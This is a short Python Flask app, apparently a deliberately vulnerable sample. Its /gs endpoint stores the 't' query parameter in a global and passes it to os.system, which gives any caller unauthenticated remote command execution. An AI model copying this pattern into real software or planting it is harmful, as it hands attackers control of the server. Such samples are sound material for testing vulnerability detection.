import os
from flask import Flask, request

app = Flask(__name__)
CURRENT = {"tool": "ls"}


def remember(value):
    CURRENT["tool"] = value


@app.get("/gs")
def gs():
    remember(request.args.get("t", ""))
    os.system(CURRENT["tool"])
    return "ok"
